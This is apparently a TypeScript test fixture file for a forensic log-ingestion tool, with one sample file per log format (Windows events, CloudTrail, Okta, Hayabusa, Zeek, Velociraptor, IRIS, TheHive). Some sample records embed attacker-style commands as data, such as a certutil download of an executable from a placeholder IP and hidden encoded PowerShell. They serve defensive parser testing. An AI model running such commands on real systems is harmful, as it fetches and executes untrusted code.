/**
 * A small, typical file of every format, for detection and parser tests (src/ingest/registry.test.ts,
 * src/ingest/parsers.property.test.ts). `Record<FormatName, …>`: a new format needs a fixture here.
 */
import type { FormatName } from '../src/ingest/types.js';

/** JSON lines of the given records. */
export const lines = (...records: readonly unknown[]): string =>
  `${records.map((r) => JSON.stringify(r)).join('\n')}\n`;

const ZEEK_TSV_TEXT = [
  '#separator \\x09',
  '#set_separator\t,',
  '#empty_field\t(empty)',
  '#unset_field\t-',
  '#path\tconn',
  '#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto',
  '#types\ttime\tstring\taddr\tport\taddr\tport\tenum',
  '1692190925.123456\tC1\t10.0.0.5\t49712\t10.0.0.10\t445\ttcp',
  '',
].join('\n');

const audit = (serial: number, type: string, rest: string): string =>
  `type=${type} msg=audit(1700000000.${serial}:${serial}): ${rest}`;

/** psort -o l2tcsv: 17 columns, no quoting (plaso replaces commas in values with spaces). */
const PLASO_L2TCSV_TEXT = [
  'date,time,timezone,MACB,source,sourcetype,type,user,host,short,desc,version,filename,inode,notes,format,extra',
  '06/27/2012,18:17:01,UTC,M...,LOG,Syslog,Content Modification Time,-,ubuntu,[CRON] pid: 8442,' +
    '[CRON] pid: 8442 session closed for user root,2,OS:/var/log/syslog.1,15,-,syslog,pid: 8442; reporter: CRON',
  '',
].join('\n');

/** A small, typical file of each format. */
export const FIXTURES: Readonly<
  Record<FormatName, { readonly content: string | Uint8Array; readonly fileName: string }>
> = {
  evtx: {
    content: new Uint8Array([...Buffer.from('ElfFile\0'), ...new Uint8Array(4088)]),
    fileName: 'Security.evtx',
  },
  'windows-xml': {
    content:
      '<Events><Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>' +
      '<Provider Name="Microsoft-Windows-Security-Auditing"/><EventID>4625</EventID>' +
      '<TimeCreated SystemTime="2026-03-02T10:00:00.000Z"/><Computer>dc01</Computer></System>' +
      '<EventData><Data Name="TargetUserName">bob</Data></EventData></Event></Events>',
    fileName: 'events.xml',
  },
  'windows-json': {
    content: lines(
      { EventID: 4624, Channel: 'Security', TimeCreated: '2026-03-02T10:00:00Z', Computer: 'dc01' },
      { EventID: 4688, Channel: 'Security', TimeCreated: '2026-03-02T10:00:01Z', Computer: 'dc01' },
    ),
    fileName: 'security.json',
  },
  cloudtrail: {
    content: JSON.stringify({
      Records: [
        {
          eventVersion: '1.08',
          eventTime: '2026-03-02T11:00:00Z',
          eventSource: 'iam.amazonaws.com',
          eventName: 'CreateAccessKey',
          awsRegion: 'us-east-1',
          sourceIPAddress: '203.0.113.9',
          userIdentity: { type: 'IAMUser', userName: 'mallory' },
        },
      ],
    }),
    fileName: '123456789012_CloudTrail_us-east-1.json',
  },
  okta: {
    content: lines({
      published: '2026-03-02T08:30:00.000Z',
      eventType: 'user.session.start',
      displayMessage: 'User login to Okta',
      actor: { id: '00u1', type: 'User', alternateId: 'eve@example.com', displayName: 'Eve' },
      client: { ipAddress: '203.0.113.77' },
      outcome: { result: 'FAILURE', reason: 'VERIFICATION_ERROR' },
    }),
    fileName: 'okta.json',
  },
  entra: {
    content: JSON.stringify({
      value: [
        {
          id: 'a',
          createdDateTime: '2026-03-02T07:01:02Z',
          userPrincipalName: 'dana@contoso.com',
          appDisplayName: 'Azure Portal',
          ipAddress: '203.0.113.50',
          status: { errorCode: 50126, failureReason: 'Invalid username or password.' },
        },
      ],
    }),
    fileName: 'signins.json',
  },
  'hayabusa-csv': {
    content:
      '"Timestamp","RuleTitle","Level","Computer","Channel","EventID","RecordID","Details","ExtraFieldInfo"\n' +
      '"2021-12-12 16:16:04.237 +09:00","Logon (Network)","info","fs03vuln.offsec.lan","Sec",4624,1160369,' +
      '"Type: 3 \u00a6 TgtUser: admmig \u00a6 SrcComp: - \u00a6 SrcIP: 10.23.123.11 \u00a6 LID: 0x87249a8",' +
      '"AuthenticationPackageName: NTLM \u00a6 IpPort: 60174"\n',
    fileName: 'hayabusa-results.csv',
  },
  'hayabusa-json': {
    content: lines(
      {
        Timestamp: '2016-08-19 08:06:57.658 +09:00',
        RuleTitle: 'Proc Exec',
        Level: 'info',
        Computer: 'IE10Win7',
        Channel: 'Sec',
        EventID: 4688,
        RecordID: 6845,
        Details: { CmdLine: 'C:\\Windows\\system32\\ipconfig /release', PID: '0xcf4', User: 'IE10WIN7$' },
      },
      {
        Timestamp: '2016-08-19 08:07:01.000 +09:00',
        RuleTitle: 'Susp CmdLine (Possible LOLBIN)',
        Level: 'med',
        Computer: 'IE10Win7',
        Channel: 'Sec',
        EventID: 4688,
        MitreTactics: ['Exec'],
        MitreTags: ['T1218'],
        RecordID: 6846,
        Details: { CmdLine: 'certutil -urlcache -f http://203.0.113.5/a.exe', User: 'IE10WIN7$' },
      },
    ),
    fileName: 'hayabusa-results.jsonl',
  },
  'chainsaw-json': {
    content: JSON.stringify([
      {
        group: 'Sigma',
        kind: 'individual',
        document: {
          kind: 'evtx',
          path: 'evtx/Security.evtx',
          data: {
            Event: {
              System: {
                Provider_attributes: { Name: 'Microsoft-Windows-Eventlog' },
                EventID: 1102,
                EventRecordID: 227693,
                Channel: 'Security',
                Computer: 'PC01.example.corp',
                TimeCreated_attributes: { SystemTime: '2019-02-13T18:01:41.593830Z' },
              },
              UserData: { LogFileCleared: { SubjectUserName: 'admin01', SubjectDomainName: 'EXAMPLE' } },
            },
          },
        },
        name: 'Security Event Log Cleared',
        timestamp: '2019-02-13T18:01:41.593830+00:00',
        authors: ['Saw Winn Naung'],
        level: 'medium',
        source: 'sigma',
        status: 'stable',
        id: 'a122ac13-daf8-4175-83a2-72c387be339d',
        tags: ['attack.defense_evasion', 'attack.t1070.001'],
      },
    ]),
    fileName: 'chainsaw-hunt.json',
  },
  'zeek-json': {
    content: lines(
      {
        _path: 'conn',
        ts: 1588205198.89971,
        uid: 'C1',
        'id.orig_h': '10.0.1.4',
        'id.orig_p': 64842,
        'id.resp_h': '10.0.0.4',
        'id.resp_p': 53,
        proto: 'udp',
      },
      {
        _path: 'conn',
        ts: 1588205199.1,
        uid: 'C2',
        'id.orig_h': '10.0.1.4',
        'id.orig_p': 64843,
        'id.resp_h': '10.0.0.4',
        'id.resp_p': 445,
        proto: 'tcp',
      },
    ),
    fileName: 'conn.log',
  },
  'ecs-json': {
    content: lines({
      '@timestamp': '2026-03-02T12:00:00Z',
      event: { action: 'process-started', category: ['process'] },
      host: { name: 'ws-07' },
      process: { command_line: 'powershell -enc AAAA' },
      ecs: { version: '8.11.0' },
    }),
    fileName: 'events.ndjson',
  },
  json: {
    content: lines(
      { time: '2026-03-02T12:00:00Z', level: 'info', msg: 'user logged in', user: 'bob' },
      { time: '2026-03-02T12:00:01Z', level: 'warn', msg: 'slow request' },
    ),
    fileName: 'app.json',
  },
  cef: {
    content:
      'CEF:0|Acme|Firewall|1.0|100|Blocked SSH|5|src=203.0.113.9 dst=10.0.0.5 dpt=22 act=blocked rt=1772445780000\n',
    fileName: 'fw.log',
  },
  leef: {
    content: 'LEEF:2.0|Lancope|StealthWatch|1.0|41|^|src=10.0.1.8^dst=10.0.0.5^sev=5^devTime=1772445780000\n',
    fileName: 'qradar.log',
  },
  'zeek-tsv': { content: ZEEK_TSV_TEXT, fileName: 'conn.log' },
  auditd: {
    content: [
      audit(
        1,
        'SYSCALL',
        'arch=c000003e syscall=59 success=yes pid=10 uid=0 auid=1000 comm="sh" exe="/bin/sh"',
      ),
      audit(1, 'EXECVE', 'argc=2 a0="sh" a1="-c"'),
      audit(1, 'EOE', ''),
      '',
    ].join('\n'),
    fileName: 'audit.log',
  },
  'web-access': {
    content:
      '192.168.1.1 - frank [10/Oct/2000:13:55:36 -0700] "GET /apache_pb.gif HTTP/1.0" 200 2326 "-" "Mozilla/4.08"\n' +
      '203.0.113.9 - - [10/Oct/2000:13:55:40 -0700] "POST /login HTTP/1.1" 401 512 "-" "curl/8.0"\n',
    fileName: 'access.log',
  },
  syslog: {
    content:
      'Mar  2 10:00:00 web01 sshd[100]: Failed password for root from 203.0.113.9 port 2222 ssh2\n' +
      'Mar  2 10:00:05 web01 sshd[100]: Connection closed by 203.0.113.9\n',
    fileName: 'auth.log',
  },
  'plaso-l2tcsv': {
    content: PLASO_L2TCSV_TEXT,
    fileName: 'timeline.csv',
  },
  'plaso-csv': {
    content:
      'datetime,timestamp_desc,source,source_long,message,parser,display_name,tag\n' +
      '2012-06-27T18:17:01.000000+00:00,Content Modification Time,LOG,Syslog,[CRON] pid: 8442 session closed for user root,syslog,OS:/var/log/syslog.1,-\n',
    fileName: 'timeline.csv',
  },
  'plaso-json': {
    content: lines({
      __container_type__: 'event',
      __type__: 'AttributeContainer',
      data_type: 'syslog:line',
      display_name: 'OS:/var/log/syslog.1',
      filename: '/var/log/syslog.1',
      hostname: 'ubuntu',
      inode: 0,
      message: '[CRON] pid: 8442 session closed for user root',
      parser: 'syslog',
      timestamp: 1340821021000000,
      timestamp_desc: 'Content Modification Time',
    }),
    fileName: 'timeline.jsonl',
  },
  'timesketch-jsonl': {
    content: lines({
      message: 'A message',
      timestamp: 1437764461000000,
      datetime: '2015-07-24T19:01:01+00:00',
      timestamp_desc: 'Write time',
      extra_field_1: 'foo',
    }),
    fileName: 'timeline.jsonl',
  },
  'timesketch-csv': {
    content:
      'message,timestamp,datetime,timestamp_desc,extra_field_1,extra_field_2\n' +
      'A message,1437764461000000,2015-07-24T19:01:01+00:00,Write time,foo,bar\n',
    fileName: 'timeline.csv',
  },
  csv: {
    content: 'timestamp,host,user,action\n2026-03-02T13:00:00Z,srv9,carol,login\n',
    fileName: 'export.csv',
  },
  tsv: { content: 'timestamp\thost\tuser\n2026-03-02T13:00:00Z\tsrv9\tcarol\n', fileName: 'export.tsv' },
  // Velociraptor Windows.System.Pslist rows as a hunt download writes them (ClientId, Fqdn, _Source added).
  'velociraptor-jsonl': {
    content: lines(
      {
        Pid: 4312,
        Ppid: 1020,
        Name: 'powershell.exe',
        CommandLine: 'powershell.exe -nop -w hidden -enc SQBFAFgA',
        Exe: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        Username: 'CORP\\alice',
        CreateTime: '2026-03-02T09:14:07.5Z',
        ClientId: 'C.4f5e1d0a8b9c7e21',
        Fqdn: 'ws-07.corp.example',
        FlowId: 'F.CN8M2KQ0A7TJS',
        _Source: 'Windows.System.Pslist',
      },
      {
        Pid: 988,
        Ppid: 4,
        Name: 'lsass.exe',
        CommandLine: 'C:\\Windows\\system32\\lsass.exe',
        CreateTime: '2026-03-01T07:00:01Z',
        ClientId: 'C.4f5e1d0a8b9c7e21',
        Fqdn: 'ws-07.corp.example',
        FlowId: 'F.CN8M2KQ0A7TJS',
        _Source: 'Windows.System.Pslist',
      },
    ),
    fileName: 'All Windows.System.Pslist.json',
  },
  // DFIR-IRIS timeline CSV: IRIS's upload/export columns, date without offset and the zone beside it.
  'iris-timeline-csv': {
    content:
      'event_date,event_tz,event_title,event_category,event_content,event_raw,event_source,event_assets,event_iocs,event_tags\n' +
      '"2026-03-02T09:14:07.500","+00:00","Encoded PowerShell on WS-07","Execution","powershell -enc seen in Sysmon 1","","Sysmon","WS-07","","attack.t1059.001|powershell"\n' +
      '"2026-03-02T09:20:00.000","+01:00","Beacon to C2","Command and Control","","","Proxy","WS-07","evil.example","c2"\n',
    fileName: 'iris_timeline.csv',
  },
  // DFIR-IRIS "Export case" (export_case_json) in IRIS's API envelope: wall-clock event_date with event_tz beside
  // it, comma-separated event_tags, the category's name, assets as "name (type)".
  'iris-case-json': {
    content: JSON.stringify(
      {
        data: {
          assets: [{ asset_name: 'WS-07', type: 'Windows - Computer', compromised: true }],
          case: {
            name: '#12 - Phishing WS-07',
            open_date: '2026-03-02',
            description: 'Phishing leading to a beacon',
            soc_id: 'SOC-4410',
            opened_by: 'alice',
            for_customer: 'Corp',
            close_date: null,
            custom_attributes: {},
          },
          evidences: [],
          export_date: '2026-03-05T08:00:00.000000',
          iocs: [{ ioc_value: 'evil.example', type_name: 'domain', ioc_tags: 'c2', ioc_description: '' }],
          notes: [],
          tasks: [],
          timeline: [
            {
              event_id: 31,
              event_title: 'Encoded PowerShell on WS-07',
              event_date: '2026-03-02T09:14:07.500000',
              event_tz: '+00:00',
              event_date_wtz: '2026-03-02T09:14:07.500000',
              event_content: 'powershell -enc seen in Sysmon 1',
              event_tags: 'attack.t1059.001,powershell',
              event_source: 'Sysmon',
              event_raw: '',
              custom_attributes: {},
              category: 'Execution',
              last_edited_by: 'alice',
              assets: ['WS-07 (Windows - Computer)'],
            },
            {
              event_id: 32,
              event_title: 'Beacon to C2',
              event_date: '2026-03-02T10:20:00.000000',
              event_tz: '+01:00',
              event_date_wtz: '2026-03-02T10:20:00.000000',
              event_content: '',
              event_tags: 'c2',
              event_source: 'Proxy',
              event_raw: '',
              custom_attributes: {},
              category: 'Command and Control',
              last_edited_by: 'bob',
              assets: ['WS-07 (Windows - Computer)'],
            },
          ],
        },
        message: '',
        status: 'success',
      },
      null,
      2,
    ),
    fileName: 'case_12_export.json',
  },
  // TheHive 5 case as /api/v1/case/{id} returns it, with its tasks, task logs and observables gathered in.
  'thehive-json': {
    content: JSON.stringify(
      {
        _id: '~41112',
        _type: 'Case',
        _createdBy: 'alice@corp.example',
        _createdAt: 1772442000000,
        number: 42,
        title: 'Phishing leading to PowerShell beacon',
        severity: 3,
        severityLabel: 'HIGH',
        startDate: 1772442000000,
        tags: ['phishing', 'attack.t1566.001'],
        flag: true,
        tlp: 2,
        status: 'InProgress',
        tasks: [
          {
            _id: '~8200',
            _type: 'Task',
            title: 'Contain WS-07',
            group: 'Containment',
            status: 'Completed',
            startDate: 1772445600000,
            endDate: 1772449200000,
            assignee: 'bob@corp.example',
            logs: [
              {
                _id: '~9001',
                _type: 'Log',
                _createdBy: 'bob@corp.example',
                _createdAt: 1772446000000,
                message: 'Isolated WS-07 from the network via EDR',
                date: 1772446000000,
              },
            ],
          },
        ],
        observables: [
          {
            _id: '~7001',
            _type: 'Observable',
            _createdAt: 1772443000000,
            dataType: 'ip',
            data: '203.0.113.9',
            startDate: 1772443000000,
            ioc: true,
            sighted: true,
            sightedAt: 1772441000000,
            tags: ['c2'],
            tlp: 2,
          },
        ],
      },
      null,
      2,
    ),
    fileName: 'case-42.json',
  },
};
